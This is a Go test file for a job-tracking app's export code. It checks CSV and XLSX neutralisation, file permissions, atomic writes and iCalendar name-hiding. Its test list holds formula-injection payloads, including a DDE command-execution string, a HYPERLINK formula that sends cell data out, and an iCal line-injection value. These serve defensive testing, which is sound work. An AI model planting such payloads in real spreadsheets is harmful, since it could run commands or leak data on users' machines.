package exchange

import (
	"bytes"
	"errors"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
	"pgregory.net/rapid"

	"jobwright/internal/day"
)

var payloads = []string{
	`=1+1`, `=cmd|' /C calc'!A0`, `=HYPERLINK("http://example.org/?x="&A1,"click")`, `+44 20 7946 0000`, `+1+1`, `-1+1`, `-`, `@SUM(A1:A9)`,
	"\t=1+1", "\r=1+1", "\n=1+1", `  =1+1`, "\u200b=1+1", "\ufeff=1+1", "\u00a0@x", `＝1+1`, `＋1`, `－1`, `＠x`, "\x00=1", `'=1+1`, `''@x`, "\u2060 ＝x",
}

func TestEveryPayloadIsNeutralAndComesBack(t *testing.T) {
	for _, p := range payloads {
		n := Neutral(p)
		if !strings.HasPrefix(n, "'") || n == p {
			t.Errorf("%q goes out as %q", p, n)
		}
		if back := Original(n); back != p {
			t.Errorf("%q comes back as %q", p, back)
		}
	}
	for _, harmless := range []string{"", "Ring Ann", "'quoted' words", "'", "a=b", "5-6", "O'Neill", "£5", "(-1)", "'tis"} {
		if n := Neutral(harmless); n != harmless || Original(n) != harmless {
			t.Errorf("%q goes out as %q and comes back as %q", harmless, n, Original(n))
		}
	}
}

func TestNeutralAndBackIsTheSameText(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		s := rapid.StringOf(rapid.OneOf(rapid.SampledFrom([]rune("'=+-@\t\r ＝x")), rapid.Rune())).Draw(t, "text")
		if Original(Neutral(s)) != s {
			t.Errorf("%q comes back as %q", s, Original(Neutral(s)))
		}
		if Neutral(Neutral(s)) != Neutral(s) && !strings.HasPrefix(Neutral(s), "'") {
			t.Errorf("%q is not neutral", Neutral(s))
		}
	})
}

// written makes a file of the ending with the given cells below the column "what".
func written(t *testing.T, ending string, cells []string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "out"+ending)
	k := Kind{Name: "next-steps", Columns: []Column{{Name: "ref"}, {Name: "what"}}}
	err := WriteTable(path, k, func(yield func([]string) error) error {
		for _, c := range cells {
			if err := yield([]string{"r", c}); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return path
}

func TestExportsReadBackAsTheyWere(t *testing.T) {
	texts := []string{"plain", "two\nlines", `a "quote", a comma; a semicolon`, "Zoë “£5” 日本", "0123", "2026-11-24", "1/2", " blank round it ", "TRUE", "5"}
	for _, p := range payloads {
		if !strings.ContainsAny(p, "\x00\r") { // control characters are no text that anybody can have typed
			texts = append(texts, p)
		}
	}
	for _, ending := range []string{".csv", ".xlsx", ".CSV"} {
		path := written(t, ending, texts)
		header, all, err := rows(t, path)
		if err != nil || !slices.Equal(header, []string{"ref", "what"}) || len(all) != len(texts) {
			t.Fatalf("%s: read %q and %d rows, %v", ending, header, len(all), err)
		}
		for i, want := range texts {
			if got := Original(all[i].Cells[1]); got != want || all[i].Bad != nil {
				t.Errorf("%s: %q comes back as %q, %v", ending, want, got, all[i].Bad)
			}
		}
		info, err := os.Stat(path)
		if err != nil || runtime.GOOS != "windows" && info.Mode().Perm() != 0o600 {
			t.Errorf("%s: the mode is %v, want 0600 (%v)", ending, info.Mode(), err)
		}
	}
}

func TestACSVIsMadeForExcel(t *testing.T) {
	got, err := os.ReadFile(written(t, ".csv", []string{"=1", `say "hi"`}))
	if want := "\ufeff\"ref\",\"what\"\r\n\"r\",\"'=1\"\r\n\"r\",\"say \"\"hi\"\"\"\r\n"; err != nil || string(got) != want {
		t.Errorf("written %q, want %q (%v)", got, want, err)
	}
}

func TestAnXLSXHoldsTextOnly(t *testing.T) {
	path := written(t, ".xlsx", append([]string{"5", "2026-11-24", "TRUE"}, payloads...))
	book, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer book.Close()
	sheet := book.GetSheetList()[0]
	for row := 1; row <= len(payloads)+4; row++ {
		for _, column := range []string{"A", "B"} {
			cell := column + string(rune('0'+row/10)) + string(rune('0'+row%10))
			cell = strings.Replace(cell, column+"0", column, 1)
			kind, err := book.GetCellType(sheet, cell)
			if err != nil || kind != excelize.CellTypeInlineString && kind != excelize.CellTypeSharedString {
				t.Errorf("%s is of the type %v, %v", cell, kind, err)
			}
			if f, err := book.GetCellFormula(sheet, cell); f != "" || err != nil {
				t.Errorf("%s holds the formula %q, %v", cell, f, err)
			}
		}
	}
}

func TestAFailedExportLeavesNothingBehind(t *testing.T) {
	for _, ending := range []string{".csv", ".xlsx"} {
		dir := t.TempDir()
		path := filepath.Join(dir, "out"+ending)
		if err := os.WriteFile(path, []byte("the old one"), 0o600); err != nil {
			t.Fatal(err)
		}
		broken := errors.New("broken")
		err := WriteTable(path, Kinds[0], func(func([]string) error) error { return broken })
		if !errors.Is(err, broken) {
			t.Errorf("%s: the error is %v", ending, err)
		}
		left, err := os.ReadDir(dir)
		if old, _ := os.ReadFile(path); err != nil || len(left) != 1 || string(old) != "the old one" {
			t.Errorf("%s: left %v, the file holds %q (%v)", ending, left, old, err)
		}
	}
}

func TestALongTextIsNotCutOff(t *testing.T) {
	w, err := NewXLSX(io.Discard, "x", []string{"a"})
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Write([]string{strings.Repeat("x", excelize.TotalCellChars+1)}); err == nil {
		t.Error("a text that a spreadsheet would cut off is written")
	}
	w.(*xlsxWriter).drop()
}

func TestACalendarHoldsNoNames(t *testing.T) {
	var out bytes.Buffer
	err := WriteCalendar(&out, []CalendarEntry{
		{ID: "0190-a", Day: day.New(2026, 11, 24), Title: "Ring Zelda's manager about SMITH-jones; 10,30\nBEGIN:VALARM", Changed: time.Date(2026, 11, 20, 9, 0, 0, 0, time.UTC), Hide: []string{"Zelda", "Smith-Jones"}},
		{ID: "0190-b", Day: day.New(2026, 12, 31), Title: strings.Repeat("A long title with Zoë ", 20), Changed: time.Date(2026, 11, 20, 9, 0, 0, 0, time.UTC)},
	})
	if err != nil {
		t.Fatal(err)
	}
	got := out.String()
	for _, want := range []string{"BEGIN:VCALENDAR\r\n", "VERSION:2.0\r\n", "UID:0190-a@jobwright\r\n", "DTSTART;VALUE=DATE:20261124\r\n", "DTEND;VALUE=DATE:20261125\r\n",
		"DTSTAMP:20261120T090000Z\r\n", `SUMMARY:Ring …'s manager about …-…\; 10\,30 BEGIN:VALARM`, "DTEND;VALUE=DATE:20270101\r\n", "END:VCALENDAR\r\n"} {
		if !strings.Contains(got, want) {
			t.Errorf("the calendar has no %q:\n%s", want, got)
		}
	}
	for _, name := range []string{"Zelda", "SMITH", "jones"} {
		if strings.Contains(got, name) {
			t.Errorf("the calendar names %s", name)
		}
	}
	if strings.Count(got, "\r\nBEGIN:") != 2 {
		t.Errorf("the title has made a component of its own:\n%s", got)
	}
	for line := range strings.SplitSeq(got, "\r\n") {
		if len(line) > 75 {
			t.Errorf("a line has %d bytes, 75 are the most: %q", len(line), line)
		}
	}
}
